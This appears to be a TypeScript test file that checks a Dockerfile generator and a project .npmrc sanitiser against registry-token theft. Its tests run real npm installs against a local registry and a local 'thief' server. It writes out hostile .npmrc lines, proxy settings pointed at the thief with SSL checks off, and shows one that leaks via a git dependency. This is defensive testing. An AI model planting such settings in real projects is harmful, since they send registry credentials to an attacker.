import assert from 'node:assert/strict';
import { execFile, execFileSync } from 'node:child_process';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { delimiter, dirname, join } from 'node:path';
import { type TestContext, test } from 'node:test';
import { generateDockerfile } from './generated-dockerfile.ts';
import { readProjectNpmrc } from './project-npmrc.ts';

const TOKEN = 'the-token-of-the-box';

/** A web server that has no package, and what it was told in `authorization`, request by request. */
async function listen(t: TestContext) {
  const heard: string[] = [];
  const server = createServer((request, response) => {
    heard.push(request.headers.authorization ?? '');
    response.writeHead(404, { 'content-type': 'application/json' }).end('{}');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  t.after(() => server.closeAllConnections());
  t.after(() => server.close());
  return { host: `127.0.0.1:${(server.address() as AddressInfo).port}`, heard };
}

/** The generated install, by npm itself: the box's npmrc as the person's own, the project's beside package.json. */
async function install(
  t: TestContext,
  files: {
    readonly box: string;
    readonly project: string;
    readonly dependency?: string;
    readonly isFromGitAllowed?: true;
  },
): Promise<string> {
  const home = await mkdtemp(join(tmpdir(), 'project-npmrc-'));
  t.after(() => rm(home, { recursive: true, force: true }));
  const app = join(home, 'app');
  await mkdir(app);
  await writeFile(join(home, '.npmrc'), files.box);
  await writeFile(join(app, '.npmrc'), files.project);
  const dependencies = { 'no-such-package': files.dependency ?? '1.0.0' };
  await writeFile(join(app, 'package.json'), JSON.stringify({ dependencies }));
  const step = generateDockerfile({
    manifests: ['package.json'],
    needsInstall: true,
    isLocked: false,
    hasNpmrc: true,
    hasProjectNpmrc: true,
    build: null,
    start: { kind: 'command', run: 'true' },
  });
  const generated = /npm_config_git=git npm install .*$/m.exec(step)?.[0] ?? '';
  const command = files.isFromGitAllowed ? generated.replace(' --allow-git=none', '') : generated;
  const PATH = [dirname(process.execPath), process.env.PATH].join(delimiter);
  return new Promise((resolve) => {
    execFile(
      '/bin/sh',
      ['-c', command],
      { cwd: app, env: { HOME: home, PATH }, timeout: 60_000 },
      (_, out, err) => resolve(`${out}${err}`),
    );
  });
}

test('a commit’s .npmrc sends no token of the box by a way of its own', async (t) => {
  const [registry, thief] = [await listen(t), await listen(t)];
  const box = `registry=http://${registry.host}/\n//${registry.host}/:_authToken=${TOKEN}\n`;
  const hostile = `proxy=http://${thief.host}\nhttps-proxy=http://${thief.host}\nstrict-ssl=false\n`;
  await install(t, { box, project: hostile });
  assert.deepEqual(new Set(thief.heard), new Set([`Bearer ${TOKEN}`]), 'this is how it would be taken');
  assert.deepEqual(registry.heard, []);

  thief.heard.length = 0;
  await install(t, { box, project: readProjectNpmrc(hostile).text });
  assert.deepEqual(thief.heard, []);
  assert.deepEqual(new Set(registry.heard), new Set([`Bearer ${TOKEN}`]));
});

test('a registry that a commit names gets no token of another, nor one without a host', async (t) => {
  const [registry, thief] = [await listen(t), await listen(t)];
  const { text: project } = readProjectNpmrc(`registry=http://${thief.host}/`);
  await install(t, { box: `//${registry.host}/:_authToken=${TOKEN}\n`, project });
  assert.deepEqual(new Set(thief.heard), new Set(['']));
  for (const name of ['_auth', '_authToken']) {
    await install(t, { box: `${name}=${TOKEN}\n`, project });
    assert.deepEqual(
      thief.heard.filter((told) => told !== ''),
      [],
    );
  }
});

test('a package from git brings no .npmrc of its own beside the token', async (t) => {
  const [registry, thief] = [await listen(t), await listen(t)];
  const repository = await mkdtemp(join(tmpdir(), 'project-npmrc-'));
  t.after(() => rm(repository, { recursive: true, force: true }));
  const devDependencies = { another: '1.0.0' };
  const manifest = {
    name: 'no-such-package',
    version: '1.0.0',
    scripts: { prepare: 'true' },
    devDependencies,
  };
  await writeFile(join(repository, 'package.json'), JSON.stringify(manifest));
  await writeFile(join(repository, '.npmrc'), `proxy=http://${thief.host}\n`);
  const git = (...args: string[]) =>
    execFileSync('git', ['-c', 'user.name=a', '-c', 'user.email=a@b', ...args], { cwd: repository });
  git('init', '-q');
  git('add', '.');
  git('commit', '-qm', 'one');
  const files = {
    box: `registry=http://${registry.host}/\n//${registry.host}/:_authToken=${TOKEN}\n`,
    project: '',
    dependency: `git+file://${repository}`,
  };
  await install(t, { ...files, isFromGitAllowed: true });
  assert.ok(thief.heard.includes(`Bearer ${TOKEN}`), 'this is how it would be taken');

  thief.heard.length = 0;
  assert.match(await install(t, files), /EALLOWGIT/);
  assert.deepEqual(thief.heard, []);
});
